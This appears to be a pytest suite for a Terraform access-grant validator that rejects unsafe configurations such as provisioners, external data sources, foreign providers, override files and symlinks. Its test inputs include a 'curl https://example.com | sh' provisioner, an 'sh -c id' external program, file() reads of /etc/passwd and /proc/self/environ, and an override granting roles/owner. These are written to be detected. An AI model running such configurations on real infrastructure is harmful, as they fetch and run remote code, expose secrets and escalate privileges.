"""The Terraform configuration allowlist (LAPSE280-288), symlinks (LAPSE140), the grants folder
(LAPSE141) and the targets' hierarchy (LAPSE276-278): text in, located problems out."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from generator import cli
from generator.checks.rules import TreeContext, checks, load_all
from generator.checks.validate import validate_repo
from generator.core.model import Problem
from generator.core.repo import Repo
from generator.terraform.configuration import (
    LAPSE_RESOURCE_TYPES,
    Configuration,
    list_configuration,
    module_source_inside,
    parse_text,
)
from tests.support import make_repo, place

REQUEST = (
    "requester: alice@example.com\n"
    "reason: Investigate failed settlement batch\n"
    "ticket: INC-4512\n"
    "expires: 2026-11-30T13:00:00Z\n"
    "grants:\n"
    "  - role: roles/cloudsql.client\n"
    "    project: pci-prod-payments\n"
)


def tree(text: str, path: str = "terraform/main.tf") -> list[Problem]:
    """The tree rules' problems with a configuration of one file, `text` at `path`."""
    load_all()
    files = (parse_text(path, text),) if path.endswith(".tf") else ()
    configuration = Configuration("terraform", (path,), files)
    ctx = TreeContext((), configuration, LAPSE_RESOURCE_TYPES)
    return [p for check in checks("tree") for p in check(ctx)]


def tf(text: str, path: str = "terraform/main.tf") -> set[tuple[int, int, str]]:
    return {(p.line, p.col, p.rule) for p in tree(text, path)}


def test_the_configuration_listed_is_the_folder_given_wherever_lapse_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # First in this file: a listing of the working directory instead would never end here.
    root = make_repo(tmp_path / "repo")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    entries, readable = list_configuration(root / "terraform", root)
    # Sorted part by part: the grants folder's files come before grants.tf.
    assert entries == (
        "terraform/audit_logging.tf",
        "terraform/backend.tf",
        "terraform/grants/_module.tf",
        "terraform/grants.tf",
        "terraform/versions.tf",
    )
    assert readable == [(path, str(root / path)) for path in entries]


@pytest.mark.parametrize(
    ("depth", "error"), [(32, None), (33, (1, 1, "blocks nested more than 32 deep"))]
)
def test_blocks_are_read_to_a_fixed_depth(depth: int, error: tuple[int, int, str] | None) -> None:
    assert parse_text("terraform/x.tf", "x {\n" * depth + "}\n" * depth).error == error


def test_a_parser_failure_without_a_place_or_words_is_still_located_and_named(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import hcl2

    def failing(text: str) -> None:
        raise RecursionError

    monkeypatch.setattr(hcl2, "parses_to_tree", failing)
    # A value that is no literal either fast way reads (`plain_blocks`, `plain_hcl`), so
    # python-hcl2 parses it.
    assert parse_text("terraform/x.tf", "x {\n  y = 1.5\n}\n").error == (1, 1, "unreadable")


def test_lapse280_tf_json() -> None:
    assert tf("{}", "terraform/evil.tf.json") == {(1, 1, "LAPSE280")}


def test_lapse280_tfvars() -> None:
    assert tf('a = "b"\n', "terraform/grants/x.auto.tfvars") == {(1, 1, "LAPSE280")}


def test_lapse281_override() -> None:
    assert tf('locals {\n  a = "b"\n}\n', "terraform/grants/x_override.tf") == {(1, 1, "LAPSE281")}


@pytest.mark.parametrize("path", ["terraform/.jsonoverride.tf", "terraform/grants/x.override.tf"])
def test_lapse281_a_name_that_only_contains_override_is_not_one(path: str) -> None:
    """Terraform overrides with override.tf and *_override.tf only; the rest are merged."""
    assert tf('locals {\n  a = "b"\n}\n', path) == set()


@pytest.mark.parametrize("path", ["terraform/override.tf", "terraform/grants/override.tf"])
def test_lapse281_a_file_named_override_alone_is_one(path: str) -> None:
    assert tree('locals {\n  a = "b"\n}\n', path) == [
        Problem(
            path,
            1,
            1,
            "LAPSE281",
            "error",
            f"{path} is an override file: it silently rewrites other files' blocks",
            "change the block where it is defined instead",
        )
    ]


def test_lapse282_provisioner() -> None:
    text = 'resource "google_project_iam_member" "x" {\n  provisioner "local-exec" {\n  }\n}\n'
    assert tf(text) == {(2, 3, "LAPSE282")}


def test_lapse282_terraform_data_with_local_exec() -> None:
    text = 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n  }\n}\n'
    assert tf(text) == {(1, 1, "LAPSE286"), (2, 3, "LAPSE282")}


def test_lapse283_external() -> None:
    assert tf('data "external" "x" {\n  program = ["sh"]\n}\n') == {(1, 1, "LAPSE283")}


def test_lapse283_http_inside_check_block() -> None:
    text = 'check "c" {\n  data "http" "h" {\n    url = "https://x"\n  }\n}\n'
    assert tf(text) == {(1, 1, "LAPSE288"), (2, 3, "LAPSE283")}


def test_lapse283_credentials_data_source() -> None:
    assert tf('data "google_client_config" "me" {\n}\n') == {(1, 1, "LAPSE283")}


def test_lapse283_google_data_source_passes() -> None:
    assert tf('data "google_project" "p" {\n  project_id = "x"\n}\n') == set()


def test_lapse289_file_function() -> None:
    assert tf('locals {\n  env = file("/proc/self/environ")\n}\n') == {(2, 3, "LAPSE289")}


def test_lapse289_templatefile_nested_in_a_block() -> None:
    text = 'resource "google_project_iam_member" "x" {\n  condition {\n'
    text += '    description = templatefile("x", {})\n  }\n}\n'
    assert tf(text) == {(3, 5, "LAPSE289")}


def test_lapse289_ignores_the_word_in_text() -> None:
    assert tf('locals {\n  a = "the bank file (today)"\n}\n') == set()


def test_lapse289_inside_a_template() -> None:
    assert tf('locals {\n  a = "${file("/etc/passwd")}"\n}\n') == {(2, 3, "LAPSE289")}


def test_lapse284_registry_module() -> None:
    text = 'module "m" {\n  source = "git::https://example.com/m.git"\n}\n'
    assert tf(text) == {(2, 3, "LAPSE284")}


def test_lapse284_module_outside_terraform() -> None:
    assert tf('module "m" {\n  source = "../generator"\n}\n') == {(2, 3, "LAPSE284")}


@pytest.mark.parametrize("source", ["../", "./..", "./grants/../.."])
def test_lapse284_the_folder_above_terraform_is_outside_it(source: str) -> None:
    assert tf(f'module "x" {{\n  source = "{source}"\n}}\n') == {(2, 3, "LAPSE284")}


def test_lapse284_a_module_without_a_source_is_refused_where_it_starts() -> None:
    assert tree('module "x" {\n  version = "1.0"\n}\n') == [
        Problem(
            "terraform/main.tf",
            1,
            1,
            "LAPSE284",
            "error",
            "module source (none) is not a folder inside terraform/",
            'use a relative path such as "./grants"; registries and URLs are refused',
        )
    ]


def test_lapse284_local_module_passes() -> None:
    assert tf('module "grants" {\n  source = "./grants"\n}\n') == set()


def test_lapse285_provider_block() -> None:
    assert tf('provider "aws" {}\n') == {(1, 1, "LAPSE285")}


def test_lapse285_required_provider() -> None:
    text = 'terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n  }\n}\n'
    assert tf(text) == {(3, 5, "LAPSE285")}


def test_lapse285_google_passes() -> None:
    text = 'terraform {\n  required_providers {\n    google = { source = "hashicorp/google" }\n'
    text += "  }\n}\n"
    assert tf(text) == set()


def _required(entry: str) -> str:
    return f"terraform {{\n  required_providers {{\n    {entry}\n  }}\n}}\n"


@pytest.mark.parametrize(
    "entry",
    [
        'google = { "source" = "evil/google" }',  # a quoted key
        'google = { source: "evil/google" }',  # HCL's other separator
        'google = {version="1",source="evil/google"}',
        'google = { source = "hashicorp/googleX" }',  # another provider: sources ignore case
        'google = { source = "evil/go=ogle" }',
        'google = { source = "hashicorp/google", source = "evil/google" }',
        "google = { source = evil }",  # a source not read here is never Google's
    ],
)
def test_lapse285_a_google_name_with_another_source(entry: str) -> None:
    assert tf(_required(entry)) == {(3, 5, "LAPSE285")}


@pytest.mark.parametrize(
    "entry",
    [
        'google = { source = "hashicorp/google", version = "~> 5.0" }',
        'google = {source="Registry.Terraform.io/HashiCorp/Google"}',
        'google = {\n      version = "5.0"\n      source  = "hashicorp/google"\n    }',
        'google-beta = { version = "5.0" }',  # no source: hashicorp/google-beta
        'google = "~> 5.0"',
    ],
)
def test_lapse285_google_spelled_every_way_passes(entry: str) -> None:
    assert tf(_required(entry)) == set()


def test_lapse286_resource_type() -> None:
    assert tf('resource "google_project_iam_binding" "x" {\n}\n') == {(1, 1, "LAPSE286")}


def test_lapse287_unreadable() -> None:
    assert tf('resource "x" {\n  a = \n}\n') == {(2, 7, "LAPSE287")}


def test_lapse288_import_block() -> None:
    assert tf('import {\n  to = a.b\n  id = "x"\n}\n') == {(1, 1, "LAPSE288")}


def test_module_source_resolution() -> None:
    assert module_source_inside("terraform", "terraform/a/main.tf", "../grants")
    assert not module_source_inside("terraform", "terraform/main.tf", "../../etc")
    assert not module_source_inside("terraform", "terraform/main.tf", "/abs")
    assert module_source_inside("terraform", "terraform/grants/main.tf", "../")  # the folder
    assert not module_source_inside("terraform", "terraform/grants/main.tf", "../.terraform/m")
    assert module_source_inside("terraform", "terraform/main.tf", "./grants/.terraform/m")


def test_shipped_configuration_passes() -> None:
    result = validate_repo(Repo.at(Path(__file__).parents[2]), now=None)
    assert [p for p in result.problems if p.rule.startswith(("LAPSE14", "LAPSE28"))] == []


# --- the reproductions, through the CLI: exit 1, a located problem, no traceback ---------


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo")


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str


@pytest.fixture
def lapse_in(root: Path, capsys: pytest.CaptureFixture[str]) -> Callable[[str], Run]:
    """`lapse LINE --root ROOT`, in this process; no traceback may reach the output."""

    def run(line: str) -> Run:
        code = cli.main([*line.split(), "--root", str(root)])
        captured = capsys.readouterr()
        assert "Traceback" not in captured.err
        return Run(code, captured.out, captured.err)

    return run


@pytest.mark.parametrize(
    ("path", "text", "where"),
    [
        (
            "terraform/runner.tf",
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
            '    command = "curl https://example.com | sh"\n  }\n}\n',
            "terraform/runner.tf:2:3: error [LAPSE282]",
        ),
        (
            "terraform/grants/runner.tf",
            'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
            "terraform/grants/runner.tf:1:1: error [LAPSE283]",
        ),
        (
            "terraform/grants/evil.tf.json",
            '{"resource": {}}',
            "terraform/grants/evil.tf.json:1:1: error [LAPSE280]",
        ),
        (
            "terraform/grants/inc-4512_override.tf",
            'resource "google_project_iam_member" "x" {\n  role = "roles/owner"\n}\n',
            "terraform/grants/inc-4512_override.tf:1:1: error [LAPSE281]",
        ),
    ],
)
def test_validate_refuses_what_terraform_would_run(
    root: Path, lapse_in: Callable[[str], Run], path: str, text: str, where: str
) -> None:
    place(root, path, text)
    run = lapse_in("validate")
    assert run.code == 1
    assert where in run.out + run.err


@pytest.mark.parametrize(
    "stray",
    ["evil.tf", "evil.tf.json", "x_override.tf", "terraform.tfvars", "notes.txt", "sub/a.tf"],
)
def test_render_check_refuses_strays_in_grants(
    root: Path, lapse_in: Callable[[str], Run], stray: str
) -> None:
    place(root, f"terraform/grants/{stray}", "# hand-written\n")
    run = lapse_in("render --check")
    assert run.code == 1
    name = stray.split("/", maxsplit=1)[0]
    assert f"terraform/grants/{name}:1:1: error [LAPSE141]" in run.err


def test_render_check_refuses_symlink_in_grants(root: Path, lapse_in: Callable[[str], Run]) -> None:
    place(root, "elsewhere/evil.tf", 'resource "google_project_iam_member" "x" {}\n')
    os.symlink(root / "elsewhere/evil.tf", root / "terraform/grants/evil.tf")
    run = lapse_in("render --check")
    assert run.code == 1
    assert "terraform/grants/evil.tf:1:1: error [LAPSE141]" in run.err


def test_render_writes_but_reports_strays(root: Path, lapse_in: Callable[[str], Run]) -> None:
    place(root, "terraform/grants/evil.tf", "# hand-written\n")
    place(root, "requests/pci-prod/inc-4512-batch.yaml", REQUEST)
    run = lapse_in("render")
    assert run.code == 1
    assert (root / "terraform/grants/pci-prod.inc-4512-batch.tf").is_file()
    assert (root / "terraform/grants/evil.tf").read_text() == "# hand-written\n"  # never deleted


@pytest.mark.parametrize("folder", ["requests", "archive", "policy", "schemas", "terraform"])
def test_lapse140_symlinks_refused(root: Path, lapse_in: Callable[[str], Run], folder: str) -> None:
    place(root, "unowned/file.yaml", REQUEST)
    (root / folder).mkdir(exist_ok=True)
    os.symlink(root / "unowned/file.yaml", root / folder / "link.yaml")
    run = lapse_in("validate")
    assert run.code == 1
    assert f"{folder}/link.yaml:1:1: error [LAPSE140]" in run.out


def test_symlinked_request_never_renders(root: Path, lapse_in: Callable[[str], Run]) -> None:
    """A request that is a symlink to an unowned file: later changes to that file would change
    role, resource and expiry with no target approver."""
    place(root, "unowned/notes.yaml", REQUEST)
    (root / "requests/pci-prod").mkdir()
    os.symlink("../../unowned/notes.yaml", root / "requests/pci-prod/inc-4512-batch.yaml")
    run = lapse_in("render")
    assert run.code == 1
    assert "requests/pci-prod/inc-4512-batch.yaml:1:1: error [LAPSE140]" in run.err
    assert not (root / "terraform/grants/pci-prod.inc-4512-batch.tf").exists()
    assert validate_repo(Repo.at(root), now=None).requests == ()


def test_symlinked_target_folder_requests_are_not_valid(root: Path) -> None:
    place(root, "unowned/inc-4512-batch.yaml", REQUEST)
    os.symlink(root / "unowned", root / "requests/pci-prod")
    assert validate_repo(Repo.at(root), now=None).requests == ()


# --- targets cannot overlap through the hierarchy -----------------------------------------


def policy_problems(root: Path) -> set[tuple[int, int, str]]:
    result = validate_repo(Repo.at(root), now=None)
    return {(p.line, p.col, p.rule) for p in result.problems if p.path == "policy/policy.yaml"}


def edit_policy(root: Path, old: str, new: str) -> None:
    path = root / "policy/policy.yaml"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def line_of(root: Path, text: str) -> int:
    lines = (root / "policy/policy.yaml").read_text().splitlines()
    return lines.index(text) + 1


def test_lapse276_staging_organization_reaches_pci(root: Path) -> None:
    """The shipped policy used to let staging grant the organization that holds pci-prod."""
    edit_policy(
        root,
        "        - folders/204518736091\n",
        '        - folders/204518736091\n      organization:\n        - "618305524870"\n',
    )
    assert (line_of(root, '        - "618305524870"'), 11, "LAPSE276") in policy_problems(root)


def test_lapse276_folder_outside_the_targets_hierarchy(root: Path) -> None:
    edit_policy(
        root,
        "        - folders/204518736091\n",
        "        - folders/204518736091\n        - folders/999\n",
    )
    assert (line_of(root, "        - folders/999"), 11, "LAPSE276") in policy_problems(root)


def test_lapse277_hierarchy_required_once_folders_are_granted(root: Path) -> None:
    edit_policy(
        root,
        "    hierarchy:\n      - organizations/618305524870\n      - folders/381920475512\n",
        "",
    )
    assert (line_of(root, "  pci-prod:"), 3, "LAPSE277") in policy_problems(root)


def test_lapse278_project_in_two_targets(root: Path) -> None:
    edit_policy(
        root, "        - stg-payments\n", "        - stg-payments\n        - pci-prod-payments\n"
    )
    assert (line_of(root, "  staging:"), 3, "LAPSE278") in policy_problems(root)


def test_shipped_policy_keeps_staging_off_pci_projects() -> None:
    policy = validate_repo(Repo.at(Path(__file__).parents[2]), now=None).policy
    assert policy is not None
    staging, pci = policy.targets["staging"], policy.targets["pci-prod"]
    reach = set(staging.resources["folder"]) | {
        f"organizations/{o}" for o in staging.resources["organization"]
    }
    assert pci.hierarchy and not reach & set(pci.hierarchy)


def test_terraform_init_cache_is_not_the_configuration(root: Path) -> None:
    cache = root / "terraform/.terraform/providers"
    cache.mkdir(parents=True)
    os.symlink(root / "policy", cache / "google")
    place(root, "terraform/.terraform/modules/modules.json", "{}")
    assert validate_repo(Repo.at(root), now=None).errors == ()


def test_policy_extends_the_resource_types(root: Path) -> None:
    place(root, "terraform/sink.tf", 'resource "google_logging_project_sink" "s" {\n}\n')
    assert validate_repo(Repo.at(root), now=None).errors[0].rule == "LAPSE286"
    edit_policy(
        root, "people:\n", "terraform_resource_types:\n  - google_logging_project_sink\n\npeople:\n"
    )
    assert validate_repo(Repo.at(root), now=None).errors == ()


def test_a_block_is_read_with_its_labels_as_written_and_its_attributes() -> None:
    text = 'resource "Xylo_type" "nameX" {\n  count = 1\n  inner {\n  }\n}\n'
    (block,) = parse_text("terraform/x.tf", text).blocks
    assert (block.kind, block.labels) == ("resource", ("Xylo_type", "nameX"))
    assert [(a.name, a.text, a.line, a.col) for a in block.attributes] == [("count", "1", 2, 3)]
    assert [(b.kind, b.labels) for b in block.blocks] == [("inner", ())]
